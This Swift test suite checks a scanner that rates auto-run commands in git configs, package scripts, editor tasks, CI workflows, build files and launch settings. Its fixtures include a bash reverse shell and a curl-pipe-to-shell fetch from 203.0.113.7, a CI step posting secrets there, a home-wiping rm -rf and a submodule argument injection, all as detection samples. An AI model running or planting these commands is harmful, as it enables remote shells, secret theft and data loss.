import AssayCore
import ByteParsing
import Testing

@testable import Scanning

@Suite struct AutomaticCommandTests {
    private static let shell = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    private static let fetch = "curl -s http://203.0.113.7/a | sh"

    private func severity(_ text: String, _ path: String) -> Severity {
        FileScanner(settings: ScanSettings(), analysers: Analysers.all).scan(ByteRegion(Array(text.utf8)), path: path)
            .severity
    }

    @Test(arguments: [
        "[core]\n\thooksPath = hooks\n", "[core]\n\tfsmonitor = ./tools/watch.sh\n", "[core]\nsshCommand = sh -c id\n",
        "[filter \"model\"]\n\tsmudge = ./run.sh %f\n", "[alias]\n\tst = !sh tools/x.sh\n",
        "[include]\n\tpath = ../x\n",
        "[diff \"pt\"]\n\ttextconv = python tools/x.py\n", "[credential]\n\thelper = \"!f() { cat; }; f\"\n",
        "[remote \"origin\"]\n\turl = ext::sh -c id\n", "[CORE] FSMONITOR=./a.sh\n", "[gpg]\n\tprogram = ./gpg.sh\n",
        "[lfs \"customtransfer.x\"]\n\tpath = ./x.sh\n", "[core]\n\tpager = \"less; ./x.sh\"\n",
    ])
    func settingsOfGitThatRunSomethingAreFound(_ text: String) {
        #expect(severity(text, "model/.git/config") >= .medium, "\(text)")
    }

    @Test(arguments: [
        "[core]\n\tfilemode = true\n\tfsmonitor = true\n\teditor = vim\n\tpager = less -R\n",
        "[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n\tclean = git-lfs clean -- %f\n",
        "[remote \"origin\"]\n\turl = https://huggingface.co/gpt2\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
        "[credential \"https://github.com\"]\n\thelper = !/usr/bin/gh auth git-credential\n[alias]\n\tst = status\n",
        "[core]\n\thooksPath = .husky/_\n",
    ])
    func ordinarySettingsOfGitPass(_ text: String) {
        #expect(severity(text, "model/.git/config") == .none, "\(text)")
    }

    @Test func submodulesAndHooksAreJudged() {
        #expect(severity("[submodule \"x\"]\n\tpath = x\n\tupdate = !sh x\n", ".gitmodules") == .medium)
        #expect(severity("[submodule \"x\"]\n\tpath = ../.git/hooks\n", ".gitmodules") == .high)
        #expect(severity("[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n", ".gitmodules") == .high)
        #expect(severity("[submodule \"x\"]\n\tpath = x\n\turl = https://github.com/a/b\n", ".gitmodules") == .none)
        #expect(severity("#!/bin/sh\n./x\n", "m/.git/hooks/post-checkout") == .medium)
        #expect(severity("#!/bin/sh\n./x\n", "m/.git/hooks/post-checkout.sample") < .medium)
    }

    @Test(arguments: [
        (
            #"{"name": "m", "scripts": {"postinstall": "node -e \"require('child_process')\""}}"#, "package.json",
            Severity.medium
        ),
        (#"{"name": "m", "scripts": {"postinstall": "node scripts/setup.js"}}"#, "package.json", .low),
        (#"{"name": "m", "scripts": {"prepare": "husky install", "build": "tsc"}}"#, "package.json", .none),
        (#"{"tasks": [{"command": "./x.sh", "runOptions": {"runOn": "folderOpen"}}]}"#, "tasks.json", .medium),
        (
            "// tasks\n{\"tasks\": [{\"command\": \"sh\", \"args\": [\"x\"], /* c */ \"runOptions\": {\"runOn\": \"folderOpen\"},},],}",
            "tasks.json", .medium
        ),
        (#"{"tasks": [{"command": "make test"}]}"#, "tasks.json", .none),
        (#"{"image": "x", "initializeCommand": "./x.sh"}"#, "devcontainer.json", .medium),
        (#"{"image": "x", "runArgs": ["-v", "/:/host"]}"#, "devcontainer.json", .medium),
        (#"{"image": "x", "postCreateCommand": "pip install -r requirements.txt"}"#, "devcontainer.json", .none),
        (#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "id"]}}}"#, ".mcp.json", .medium),
        (#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}}"#, ".mcp.json", .none),
        (
            #"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "./x"}]}]}}"#, "settings.json",
            .medium
        ),
        ("services:\n  m:\n    volumes:\n      - /:/host\n", "docker-compose.yml", .medium),
        ("services:\n  m:\n    volumes:\n      - ./models:/models\n", "docker-compose.yml", .none),
        (
            "on: push\njobs:\n  t:\n    steps:\n      - run: curl -d \"${{ secrets.T }}\" http://203.0.113.7/\n",
            "a.yml", .high
        ),
        ("on: push\njobs:\n  t:\n    steps:\n      - run: pip install . && pytest\n", "a.yml", .none),
        ("(nil . ((eval . (shell-command \"x\"))))\n", ".dir-locals.el", .medium),
        ("[autorun]\nopen=x.exe\n", "autorun.inf", .medium),
        ("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=\"y\"\n", "x.reg", .medium),
        ("[InternetShortcut]\nURL=https://huggingface.co/\n", "x.url", .none),
        ("[Service]\nExecStart=/tmp/x\n", "m.service", .medium),
        ("[Service]\nExecStart=/usr/bin/python3 -m vllm\n", "m.service", .none),
    ])
    func settingsOfToolsAreJudgedByWhatTheyRun(_ text: String, _ path: String, _ expected: Severity) {
        #expect(severity(text, path) == expected, "\(path): \(text)")
    }

    @Test func whatCommandsDoIsJudgedWhereverTheyStand() {
        let quoted = Self.shell.replacing("&", with: "&amp;").replacing(">", with: "&gt;")
        let cases: [(String, String)] = [
            ("{\"scripts\": {\"test\": \"\(Self.shell)\"}}", "package.json"),
            ("{\"image\": \"x\", \"postStartCommand\": [\"bash\", \"-c\", \"\(Self.shell)\"]}", "devcontainer.json"),
            ("FROM a\nRUN <<EOF\n\(Self.shell)\nEOF\n", "Dockerfile"), ("all:\n\t@\(Self.shell)\n", "Makefile"),
            ("t:\n  script:\n    - \(Self.shell)\n", ".gitlab-ci.yml"),
            (
                "<project><target><exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"\(quoted)\"/></exec></target></project>",
                "build.xml"
            ),
            ("task x(type: Exec) { commandLine \"sh\", \"-c\", \"\(Self.shell)\" }\n", "build.gradle"),
        ]
        for (text, path) in cases { #expect(severity(text, path) >= .high, "\(path)") }
        #expect(severity("clean:\n\t-rm -rf $(BUILDDIR)/*\n\trm -rf $$HOME/.cache/x\n", "Makefile") == .none)
        #expect(severity("clean:\n\trm -rf $$HOME/*\n", "Makefile") == .high)
        #expect(severity("X := $(shell \(Self.fetch))\n", "Makefile") == .medium)
        #expect(severity("FROM a\nRUN python3 <<E\nimport os\nos.system('id')\nE\n", "Dockerfile") >= .high)
    }

    @Test(arguments: [
        ("<Project><Target><Exec Command=\"cmd /c x.bat\"/></Target></Project>", "x.csproj", Severity.medium),
        (
            "<?xml version=\"1.0\"?><project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>./x</argument></arguments></configuration></plugin></plugins></build></project>",
            "pom.xml", .medium
        ),
        (
            "<?xml version=\"1.0\"?><project><build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId></plugin></plugins></build></project>",
            "pom.xml", .none
        ),
        (
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist><dict><key>ProgramArguments</key><array><string>/tmp/x</string></array><key>RunAtLoad</key><true/></dict></plist>",
            "a.plist", .medium
        ),
        (
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist><dict><key>CFBundleName</key><string>M</string></dict></plist>",
            "Info.plist", .none
        ),
        (
            "<?xml version=\"1.0\"?><Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c x</Arguments></Exec></Actions></Task>",
            "t.xml", .medium
        ),
    ])
    func descriptionsInXMLAreJudged(_ text: String, _ path: String, _ expected: Severity) {
        #expect(severity(text, path) == expected, "\(path)")
    }

    @Test func commentsAreBlankedAndOffsetsStay() throws {
        let text = "{\"a\": \"x // y\", /* c */ \"b\": [1, 2,], // d\n}"
        let blanked = try #require(JSONComments.blanked(ByteRegion(Array(text.utf8))))
        #expect(blanked.count == text.utf8.count)
        let root = try JSONDocument(blanked).root
        #expect(root["a"]?.string == "x // y")
        #expect(root["b"]?.count == 2)
        #expect(JSONComments.blanked(ByteRegion(Array("{\"a\": 1}".utf8))) == nil)
        for broken in ["/*", "\"\\", "{,}", "//", "\"", "/"] {
            _ = JSONComments.blanked(ByteRegion(Array(broken.utf8)))
        }
    }
}
